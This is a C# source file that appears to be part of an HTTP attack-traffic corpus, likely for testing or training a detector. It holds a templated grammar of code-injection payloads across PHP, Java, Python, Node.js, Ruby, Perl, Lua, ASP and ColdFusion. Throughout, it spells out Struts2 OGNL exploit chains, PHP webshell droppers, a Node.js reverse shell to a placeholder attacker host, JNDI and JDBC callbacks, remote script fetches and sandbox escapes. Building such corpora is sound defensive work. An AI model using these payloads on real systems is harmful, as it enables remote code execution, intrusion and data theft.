namespace Weir.Http.Corpus.Attacks;

/// <summary>Code injection: PHP, Java (EL, OGNL, Groovy), Python, Node.js, Ruby, Perl, Lua, ASP and ColdFusion.</summary>
internal static class RceCode
{
    public const string Text = """"
        §langcode
        6× «phpinj»
        5× «ognl»
        4× «pyinj»
        4× «nodeinj»
        3× «javainj»
        3× «rubyinj»
        2× «perlinj»
        2× «aspinj»
        «luainj»
        «cfinj»

        ¶ ---- PHP ----
        §phpinj
        5× «phpbreak»«phpcall»«;¦»«phpend»
        3× «phpcall»;
        2× ${«phpcall»}
        2× {${«phpcall»}}
        2× <?php «phpcall»;«¦ ?>»
        <?=«phpcall»?>
        ${@«phpcall»}
        "«;¦.»«phpcall»«;¦.»"
        '.«phpcall».'
        $«letter»=«phpcall»;
        «assert¦eval»('«phpcall»«;¦»')
        assert("«phpcall»")
        create_function('','}«phpcall»;//')
        /«word»/e&«param»=«phpcall»
        preg_replace('/«word»/e','«phpcall»','«word»')
        «phpcall→case»;
        die(«phpcall»);
        print(«phpcall»);
        echo «phpcall»;
        if(«phpcall»){}
        «word»[$«letter»]=«phpcall»
        {php}«phpcall»;{/php}
        |a:1:{i:0;«phpcall»}
        §phpbreak
        3×
        3× ;
        3× ';
        2× ");
        2× ');
        2× ";
        'a';
        1;
        «num»);
        «word»;
        ?><?php␠
        }}
        *//*
        ";}
        %0a
        \';
        ']);
        §phpend
        4×
        3× //
        2× #
        2× /*
        ?>
        $a='
        echo '
        ;$b='
        %00
        exit;//
        §phpcall
        4× phpinfo()
        4× «phpexec»(«phparg»)
        2× `«shellcmd»`
        print«_r¦f¦»(«scandir('«/¦.»')¦file_get_contents('«unixfile»')¦md5(«num»)¦`«shellcmd»`¦getenv()¦$GLOBALS¦get_defined_vars()¦glob('*')»)
        echo «`«shellcmd»`¦md5(«num»)¦«num»*«num»¦«phpexec»(«phparg»)»
        var_dump(«$_SERVER¦$GLOBALS¦getallheaders()¦get_loaded_extensions()¦scandir('.')¦«phpexec»(«phparg»)»)
        «readfile¦file_get_contents¦show_source¦highlight_file¦include¦require¦file¦fopen»('«unixfile»'«,'r'¦»)
        «file_put_contents¦fputs(fopen»('«rand».php'«,¦,'w'),»'<?php «eval¦system»($_«GET¦POST»[«letter»]);?>')
        «call_user_func¦call_user_func_array¦array_map¦usort¦array_walk»('«phpexec»',««phparg»¦array('«shellcmd»')¦['«shellcmd»']»)
        «base64_decode¦str_rot13¦hex2bin¦strrev»('«shellcmd→b64»')
        eval(«base64_decode('«rand→b64»«rand→b64»')¦gzinflate(base64_decode('«rand→b64»'))¦$_«GET¦POST¦REQUEST¦COOKIE»[«letter»]¦chr(«#97-120»).chr(«#97-120»).chr(«#97-120»)»)
        «sleep¦usleep¦set_time_limit»(«#1-30»)
        "«phpexec→slashx»"('«shellcmd»')
        $_«GET¦POST»[«letter»]($_«GET¦POST»[«letter»])
        ('«phpexec→concatphp»')('«shellcmd»')
        (~«"«hexdigit*4»"¦%9«hexdigit»%8«hexdigit»»)();
        error_log('«rand»',3,'«rand».php')
        mail('','','','','-X/var/www/«rand».php')
        ini_set('«allow_url_include¦disable_functions¦open_basedir»','«1¦»')
        gethostbyname('«oasthost»')
        fsockopen('«evilhost»',«port»)
        new «SplFileObject('«unixfile»')¦DirectoryIterator('glob:///*')¦ReflectionFunction('system')¦finfo(0,'«unixfile»')»
        phpversion()
        die(md5(«num»))
        §phpexec
        6× system
        3× «exec¦shell_exec¦passthru»
        «eval¦assert¦popen¦proc_open¦pcntl_exec¦include¦@system¦\system¦mb_send_mail»
        §phparg
        4× '«shellcmd»'
        3× "«shellcmd»"
        «shellcmd»
        $_«GET¦POST¦REQUEST»[«'cmd'¦cmd¦"«letter»"¦0¦«letter»»]
        chr(«#97-122»).chr(«#97-122»)
        base64_decode("«shellcmd→b64»")
        end(getallheaders())
        current(get_defined_vars())
        \'«shellcmd»\'

        ¶ ---- Java: OGNL, EL, MVEL, Groovy ----
        §ognl
        4× %{«ognlbody»}
        3× ${«ognlbody»}
        2× («ognlbody»)
        2× redirect:«$¦%»{«ognlbody»}
        action:«$¦%»{«ognlbody»}
        redirectAction:${«ognlbody»}
        method:«ognlbody»&«param»=«num»
        '+(«ognlbody»)+'
        %24%7B«ognlbody→url»%7D
        ('\u0023«word»')(«letter»)
        «letter»[#«letter»]=«num»
        top['«word»'](«num»)
        class['«word»'].«word»
        /%24%7B«ognlbody→url»%7D/«word».action
        ${«num»«+¦*»«num»}/«word».action
        «debug=«command¦browser»&»expression=«ognlbody»
        Content-Type: %{«ognlbody»}.multipart/form-data
        %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«rand»',«num»*«num»)}.multipart/form-data
        ('\43_memberAccess.allowStaticMethodAccess')(a)=true&(b)(('\43context[\'xwork.MethodAccessor.denyMethodExecution\']\75false')(b))
        §ognlbody
        3× @java.lang.Runtime@getRuntime().exec(«'¦"»«shellcmd»«'¦"»)
        3× (#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)«.¦,»«ognltail»
        2× #_memberAccess«["allowStaticMethodAccess"]¦.allowStaticMethodAccess»=true,«ognltail»
        2× (#«dm¦nike='multipart/form-data').(#dm¦_='multipart/form-data').(#dm»=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).«ognltail»
        #context["xwork.MethodAccessor.denyMethodExecution"]=false,«ognltail»
        #«$r:letter»=@org.apache.«commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('«shellcmd»').getInputStream())¦struts2.ServletActionContext@getRequest().getRealPath("/")»
        #«$r:letter»=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#«$r».getWriter().println(«"«rand»"¦«num»*«num»»),#«$r».getWriter().close()
        #application.get("org.apache.tomcat.InstanceManager").newInstance("org.apache.commons.collections.BeanMap")
        «#session¦#request¦#parameters¦#attr»«['«word»']¦.«word»»
        "".getClass().forName("java.lang.Runtime").getRuntime().exec("«shellcmd»")
        Class.forName("java«x.script.ScriptEngineManager").newInstance().getEngineByName("«js¦nashorn¦JavaScript»").eval("«nashorncode→json»¦.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«shellcmd»»")
        @org.springframework.util.StreamUtils@copy(@java.lang.Runtime@getRuntime().exec("«shellcmd»").getInputStream(),#«letter»)
        @java.lang.«Thread@sleep(«#1-30»000)¦System@getProperty('user.dir')¦System@getenv()¦Math@random()»
        @java.net.InetAddress@getByName('«oasthost»')
        §ognltail
        3× (@java.lang.Runtime@getRuntime().exec('«shellcmd»'))
        (#cmd='«shellcmd»')«.¦,»(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))«.¦,»(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))«.¦,»(#p=new java.lang.ProcessBuilder(#cmds))«.¦,»(#process=#p.start())
        #a=(new java.lang.ProcessBuilder(new java.lang.String[]{«"«shellcmd»"¦"cat","«unixfile»"»})).start(),#b=#a.getInputStream()
        (#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(#ros.println('«rand»'))
        #r=@java.lang.Runtime@getRuntime(),#r.exec("«shellcmd»")
        @org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('«shellcmd»').getInputStream())
        §nashorncode
        java.lang.Runtime.getRuntime().exec('«shellcmd»')
        new java.lang.ProcessBuilder['(java.lang.String[])'](['«sh¦/bin/bash»','-c','«shellcmd»']).start()
        var s = [3];s[0]='«cmd¦/bin/sh»';s[1]='«/c¦-c»';s[2]='«shellcmd»';java.lang.Runtime.getRuntime().exec(s);
        java.lang.Thread.sleep(«#1-20»000)
        load('«evilurl»')
        §javainj
        3× «Runtime¦java.lang.Runtime».getRuntime().exec(«"«shellcmd»"¦'«shellcmd»'¦new String[]{"«/bin/sh","-c¦bash","-c¦cmd","/c»","«shellcmd»"}»)«;¦»
        2× new «java.lang.¦»ProcessBuilder(«"«shellcmd»"¦new String[]{"«sh","-c¦cmd.exe","/c»","«shellcmd»"}»).start()«;¦»
        2× «"¦'¦»«);¦;¦+¦»«Runtime¦java.lang.Runtime».getRuntime().exec("«shellcmd»")«//¦;//¦+"¦»
        2× «"«shellcmd»"¦'«shellcmd»'».execute()«.text¦.getText()¦»
        println "«shellcmd»".execute().text
        def «letter»=«"«shellcmd»".execute()¦['sh','-c','«shellcmd»'].execute()»;println «letter».text
        class «word»{static{try{Runtime.getRuntime().exec("«shellcmd»");}catch(Exception e){}}}
        @groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("«shellcmd»")})def x
        @Grab(group='«rand»',module='«rand»',version='1')@GrabResolver(name='«rand»',root='«evilurl»')
        Thread.sleep(«#1-30»000)
        System.«exit(«num»)¦getenv()¦getProperty("os.name")»«;¦»
        exec("«shellcmd→json»");bsh.Interpreter
        «bsh.script=¦»exec%28%22«shellcmd→url»%22%29
        «java.util.Scanner¦new java.util.Scanner»(Runtime.getRuntime().exec("«shellcmd»").getInputStream()).useDelimiter("\\A").next()
        #{«rt¦T»(java.lang.Runtime).getRuntime().exec('«shellcmd»')}
        spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("«shellcmd»")
        {"name":"«rand»","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"«oneword»\"}).getInputStream()))}"}}]}
        {"@type":"java.lang.«Runtime¦ProcessBuilder¦Class»","val":"«shellcmd→json»"}
        ${jexl:''.getClass().forName('java.lang.Runtime').getRuntime().exec('«shellcmd»')}
        javax.naming.InitialContext.doLookup("«ldap¦rmi»://«evilhost»:«port»/«rand»")
        jdbc:«h2:mem:«rand»;«TRACE_LEVEL_SYSTEM_OUT=3;¦»INIT=RUNSCRIPT FROM '«evilurl»'¦mysql://«evilhost»:3306/«word»?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor¦postgresql://«evilhost»/«word»?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=«evilurl»»
        CREATE ALIAS «rand→upper» AS $$ void e(String c) throws Exception{Runtime.getRuntime().exec(c);}$$;CALL «rand→upper»('«shellcmd»')

        ¶ ---- Python ----
        §pyinj
        4× __import__(«'os'¦"os"»).«system¦popen»(«'«shellcmd»'¦"«shellcmd»"»)«.read()¦»
        3× «pybreak»__import__('os').«system¦popen»('«shellcmd»')«.read()¦»«pyend»
        2× import os;«¦ »os.«system¦popen»(«'«shellcmd»'¦"«shellcmd»"»)«.read()¦»
        2× «eval¦exec»(«'«pycode»'¦"«pycode»"¦compile("""«pycode»""",'','single')¦__import__('base64').b64decode('«pycode→b64»')»)
        2× __import__('subprocess').«check_output¦call¦Popen¦getoutput¦run»(«'«shellcmd»',shell=True¦['«oneword»']¦'«shellcmd»'»)
        «os¦posix».«system¦popen¦execl¦spawnl»('«shellcmd»')«.read()¦»
        subprocess.«call¦Popen¦check_output¦run»(["«sh¦bash»","-c","«shellcmd»"])
        open(«'«unixfile»'¦"«unixfile»"»).read()
        ().__class__.__«bases__[0]¦mro__[1]¦base__».__subclasses__()«[«#10-400»]¦»«.__init__.__globals__['«os¦sys¦__builtins__»']¦»
        [x for x in ().__class__.__base__.__subclasses__() if x.__name__=='«catch_warnings¦Popen¦_wrap_close»'][0]()
        getattr(__import__('os'),'«system¦popen»')('«shellcmd»')
        globals()['__builtins__']«.__dict__¦»['__import__']('os').system('«shellcmd»')
        __builtins__.«__dict__['__import__']¦__import__»('os').system('«shellcmd»')
        «print¦str»(__import__('os').popen('«shellcmd»').read())
        __import__('time').sleep(«#1-30»)
        time.sleep(«#1-30»)
        «lambda¦(lambda» «letter»:__import__('os').system('«shellcmd»')«)¦»
        f"{__import__('os').system('«shellcmd»')}"
        {__import__('os').popen('«shellcmd»').read()}
        @«exec¦print¦eval¦input»␤@«input¦lambda _: '«shellcmd»'»␤class X:pass
        breakpoint()
        __import__('pickle').loads(b"cos\nsystem\n(S'«shellcmd»'\ntR.")
        __import__('urllib.request').request.urlopen('«evilurl»').read()
        __import__('socket').gethostbyname('«oasthost»')
        ｅxec("«pycode»")
        §pycode
        import os;os.system('«shellcmd»')
        __import__('os').system('«shellcmd»')
        print(open('«unixfile»').read())
        §pybreak
        «'+¦"+¦1+¦');¦");¦'%¦1 and ¦],¦},¦eval(¦1 if ¦{{¦,» 
        §pyend
        «+'¦+"¦#¦;#¦)¦ else 0¦}}¦»

        ¶ ---- Node.js ----
        §nodeinj
        5× «nodebreak»«nodecall»«nodeend»
        3× «nodecall»
        «eval¦Function¦setTimeout¦vm.runInNewContext»(«'¦"¦`»«nodecall→json»«'¦"¦`»)«¦()»
        (function(){«nodecall»})()
        «''¦[]¦(0)¦this».constructor.constructor("return process")().mainModule.require("child_process").execSync("«shellcmd»")
        ${«nodecall»}
        new Function("«nodecall→json»")()
        (async()=>{const {execSync}=await import('child_process');execSync('«shellcmd»')})()
        const HostObject=this.constructor;const hostProcess=HostObject.constructor("return process")();hostProcess.mainModule.require("child_process").execSync("«shellcmd»")
        JSON.parse('{"__proto__":{"shell":"«shellcmd»"}}')
        {"then":"$1:__proto__:then","status":"resolved_model","_response":{"_prefix":"«nodecall→json»"}}
        §nodecall
        5× require('child_process').«exec¦execSync¦spawn¦spawnSync¦execFile»('«shellcmd»')«.toString()¦»
        3× «global.¦»process.mainModule.require('child_process').execSync('«shellcmd»')«.toString()¦»
        2× «res.end(¦response.end(¦response.write(¦res.send(¦console.log(»require('fs').«readFileSync('«unixfile»')¦readdirSync('«/¦.¦..»').toString()»«.toString()¦»)
        require("fs").«readFileSync("«unixfile»","utf8")¦writeFileSync("«rand».js","«rand»")¦unlinkSync("«rand»")»
        process.«exit()¦kill(process.pid)¦env¦cwd()¦binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','«shellcmd»']})»
        global.process.mainModule.constructor._load('child_process').exec('«shellcmd»')
        process.binding('«fs¦process»')
        while(1){}
        var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(«port»,'«evilhost»',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);})
        require('child_process')['ex'+'ecSync']('«shellcmd»')
        «require¦global['req'+'uire']»('http').get('«evilurl»')
        §nodebreak
        «';¦";¦');¦1;¦}¦]);¦\';¦`;¦'+¦"+¦1+¦};¦»
        §nodeend
        «;//¦//¦+'¦+"¦;'¦;¦/*¦»

        ¶ ---- Ruby, Perl, Lua, ASP, ColdFusion ----
        §rubyinj
        3× «system¦exec¦`¦spawn¦Kernel.system¦Kernel.exec¦IO.popen¦%x(»«rubyarg»
        2× #{«`«shellcmd»`¦%x(«shellcmd»)¦system('«shellcmd»')¦File.read('«unixfile»')»}
        «'¦"¦»«+¦;¦»`«shellcmd»`«+'¦#¦»
        eval«(¦ »"«`«shellcmd»`¦system('«shellcmd»')»"«)¦»
        «Object¦Kernel».send(:«system¦eval¦exec¦`»,'«shellcmd»')
        |«shellcmd»
        open("|«shellcmd»")
        «File.read¦File.open¦IO.read¦IO.readlines¦open»('«unixfile»')«.read¦»
        require 'open3';Open3.capture2('«shellcmd»')
        %q(«shellcmd»).then{|c|`#{c}`}
        [:«letter»].«instance_eval¦class_eval»{`«shellcmd»`}
        <%= `«shellcmd»` %>
        puts `«shellcmd»`
        ActiveSupport::«rand»;Marshal.load(Base64.decode64('«rand→b64»'))
        "#{`«oneword»`}"
        §rubyarg
        ('«shellcmd»')
        §perlinj
        2× «system¦exec»(«'«shellcmd»'¦"«shellcmd»"»);
        2× «|«shellcmd»¦«shellcmd»|¦|«shellcmd»|¦../../bin/«oneword»|¦|«oneword»%00¦«word»|«shellcmd»|»
        «"¦'»;«system¦exec»('«shellcmd»');«#¦»
        print `«shellcmd»`;
        @{[`«shellcmd»`]}
        ${\`«shellcmd»`}
        @{[system "«shellcmd»"]}
        open(F,"«shellcmd»|");print <F>;
        qx{«shellcmd»}
        qx/«shellcmd»/
        «¦;»use MIME::Base64;eval(decode_base64("«rand→b64»"));
        (?{system('«shellcmd»')})
        require "«unixfile»";
        perl -e '«system("«shellcmd»")¦exec "/bin/sh"»'
        §luainj
        os.execute(«'«shellcmd»'¦"«shellcmd»"»)
        io.popen('«shellcmd»'):read('*a')
        «"¦'¦»)«;¦ »os.execute("«shellcmd»")«--¦»
        loadstring("os.execute('«shellcmd»')")()
        local f=io.open("«unixfile»");print(f:read("*a"))
        package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0","luaopen_os")
        erlang: os:cmd("«shellcmd»").
        §aspinj
        3× «response.write¦Response.Write»(«#100-99999»*«#100-99999»)
        2× «"+¦'+¦»response.write(«#100-99999»*«#100-99999»)«+"¦+'¦»
        «CreateObject¦Server.CreateObject»("WScript.Shell").«Exec¦Run»("«cmd /c whoami¦«wcmd»»")«.StdOut.ReadAll¦»
        «"¦»:«execute¦eval»(«request("«letter»")¦"«rand»"»)
        System.Diagnostics.Process.Start(«"cmd.exe","/c «whoami¦dir»"¦"calc"»)«;¦»
        new System.Diagnostics.ProcessStartInfo("cmd","/c «whoami¦dir»")
        System.IO.File.ReadAllText(@"«winfile»")
        xp_cmdshell '«whoami¦dir¦«wcmd»»'
        Shell("«cmd /c whoami¦calc.exe»")
        System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA«rand→b64clean»"))
        @System.Diagnostics.Process.Start("cmd.exe","/c «whoami¦dir»")
        §cfinj
        <cfexecute name="«cmd.exe¦/bin/bash»" arguments="-c «shellcmd»"/>
        #Evaluate("«shellcmd»")#
        «#¦»CreateObject("java","java.lang.Runtime").getRuntime().exec("«shellcmd»")«#¦»
        """";
}
